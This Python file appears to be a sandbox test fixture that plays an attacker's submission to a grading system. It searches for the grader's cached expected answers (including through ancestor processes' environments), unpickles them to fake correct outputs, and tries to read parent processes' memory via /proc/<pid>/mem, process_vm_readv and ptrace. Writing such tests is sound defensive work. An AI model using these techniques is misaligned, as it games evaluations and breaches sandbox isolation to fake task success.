"""Attack: read the grader's expected answers: its disk cache, and its memory.

1. The preparation cache (one pickle per formula id, holding the grading
   cases AND the oracles' expected answers) is looked for in
   $FORMULACHECK_CACHE_DIR, $XDG_CACHE_HOME/formulacheck, ~/.cache/formulacheck,
   /root/.cache/formulacheck, /home/*/.cache/formulacheck, in the cache
   path named by the environment of the ancestors (/proc/<pid>/environ) and
   in the real cache path, which the test writes into this file (an attacker
   who knows the teacher's layout: ``__FC_CACHE_DIRS__``, colon-separated).
   Each file is unpickled with stub classes (checks.* cannot be imported);
   every function then looks its input up among the cached cases and
   returns the cached expected answer.
2. The memory of the parent (zygote) and of the grader: /proc/<pid>/mem
   (open + read at a mapped address), process_vm_readv and
   ptrace(PTRACE_ATTACH) + PEEKDATA via ctypes. Only the ancestors are tried.

Expected verdict: no points (the cache and the grader's memory are not
readable from the sandbox), every memory read fails; the neighbour keeps
full marks.
"""
import ctypes
import glob
import io
import os
import pickle

import numpy as np

FUNCS = ("sigmoid", "sigmoid_backward", "tanh_backward", "relu_backward", "leaky_relu_backward", "prelu_backward")


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _ancestors(n=4):
    out, pid = [], os.getpid()
    for _ in range(n):
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                st = fh.read()
            pid = int(st[st.rindex(b")") + 2:].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


class _Stub:
    def __init__(self, *a, **k):
        self.args = a

    def __setstate__(self, state):
        if isinstance(state, tuple) and len(state) == 2:
            state = {**(state[0] or {}), **(state[1] or {})}
        if isinstance(state, dict):
            self.__dict__.update(state)


class _U(pickle.Unpickler):
    def find_class(self, module, name):
        if module.split(".")[0] in ("numpy", "builtins", "copyreg", "collections", "_codecs"):
            return super().find_class(module, name)
        return type(name, (_Stub,), {})


def _key(args):
    parts = []
    for a in args:
        a = np.asarray(a)
        parts.append((a.shape, a.dtype.str, a.tobytes()) if a.dtype.kind in "biufc" else repr(a))
    return repr(parts)


def _dirs():
    ds = []
    for v in (os.environ.get("FORMULACHECK_CACHE_DIR"), os.environ.get("XDG_CACHE_HOME") and os.path.join(os.environ["XDG_CACHE_HOME"], "formulacheck")):
        if v:
            ds.append(v)
    ds += KNOWN + [os.path.expanduser("~/.cache/formulacheck"), "/root/.cache/formulacheck"] + glob.glob("/home/*/.cache/formulacheck")
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                env = dict(x.split(b"=", 1) for x in fh.read().split(b"\0") if b"=" in x)
        except OSError:
            continue
        for k in (b"FORMULACHECK_CACHE_DIR",):
            if k in env:
                ds.append(env[k].decode())
        if b"HOME" in env:
            ds.append(os.path.join(env[b"HOME"].decode(), ".cache", "formulacheck"))
    return ds


KNOWN = [d for d in "__FC_CACHE_DIRS__".split(":") if d.startswith("/")]  # the test substitutes the real path(s)
ANSWERS = {}


def _load_cache():
    read = 0
    for d in _dirs():
        for f in glob.glob(os.path.join(d, "activations.*.pkl")):
            try:
                with open(f, "rb") as fh:
                    data = fh.read()
                payload = data[data.index(b"\n") + 1:]
                obj = _U(io.BytesIO(payload)).load()
            except Exception as e:
                _say("cache_file", f"{os.path.basename(f)} unreadable {type(e).__name__}")
                continue
            read += 1
            fn = obj["id"].split(".", 1)[1]
            table = ANSWERS.setdefault(fn, {})
            for name, idxs, expected in obj["plan"]:
                for i, exp in zip(idxs, expected):
                    args, kwargs = _U(io.BytesIO(obj["blobs"][i])).load()
                    table.setdefault(_key(args), exp)
    _say("cache_files_read", read)


def _make(fn):
    def f(*args):
        return ANSWERS[fn][_key(args)]
    f.__name__ = fn
    return f


class _IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _memory():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for pid in _ancestors(3):
        addr = None
        try:
            with open(f"/proc/{pid}/maps") as fh:
                for line in fh:
                    if "[heap]" in line or " rw-p " in line:
                        addr = int(line.split("-")[0], 16)
                        break
        except OSError as e:
            _say(f"maps_{pid}", f"failed {e.errno}")
        addr = addr or 0x400000
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as fh:
                fh.seek(addr)
                _say(f"proc_mem_{pid}", f"ok {len(fh.read(64))} bytes")
        except OSError as e:
            _say(f"proc_mem_{pid}", f"failed {e.errno}")
        buf = ctypes.create_string_buffer(64)
        local, remote = _IOVec(ctypes.addressof(buf), 64), _IOVec(addr, 64)
        n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        _say(f"process_vm_readv_{pid}", f"ok {n} bytes" if n > 0 else f"failed {ctypes.get_errno()}")
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            os.waitpid(pid, 0x40000000)  # __WALL
            ctypes.set_errno(0)
            word = libc.ptrace(2, pid, ctypes.c_void_p(addr), None)  # PTRACE_PEEKDATA
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            _say(f"ptrace_{pid}", f"ok peek={word & 0xff}")
        else:
            _say(f"ptrace_{pid}", f"failed {ctypes.get_errno()}")


try:
    _load_cache()
except Exception as e:
    _say("cache", f"failed {type(e).__name__}")
try:
    _memory()
except Exception as e:
    _say("memory", f"failed {type(e).__name__}: {e}")
for _fn in ANSWERS:
    globals()[_fn] = _make(_fn)
